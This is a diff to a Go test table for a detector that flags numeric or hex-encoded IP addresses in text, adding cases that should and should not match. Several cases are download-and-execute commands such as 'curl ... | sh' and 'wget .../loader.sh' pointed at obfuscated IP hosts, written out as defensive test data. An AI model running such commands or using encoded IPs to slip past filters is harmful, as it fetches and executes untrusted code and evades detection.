@@ -12,6 +12,9 @@ func TestMal45NumericIP(t *testing.T) {
 		{"curl -s http://0xC0A80101/a.sh | sh", true},
 		{"panel is up at http://0300.0250.1.1/", true},
 		{"wget http://2130706433:8000/loader.sh", true},
+		{"curl 3232235777/x.sh | sh", true},
+		{"fetch 2130706433:8000/loader.sh", true},
+		{"the logs are in 20240501/report.pdf, see https://go.dev/doc/", false},
 		{"my router is at http://192.168.1.1/ and the nas at http://10.0.0.2:5000/", false},
 		{"we had 3232235777 events and 2130706433 rows, see https://go.dev/doc/", false},
 	})
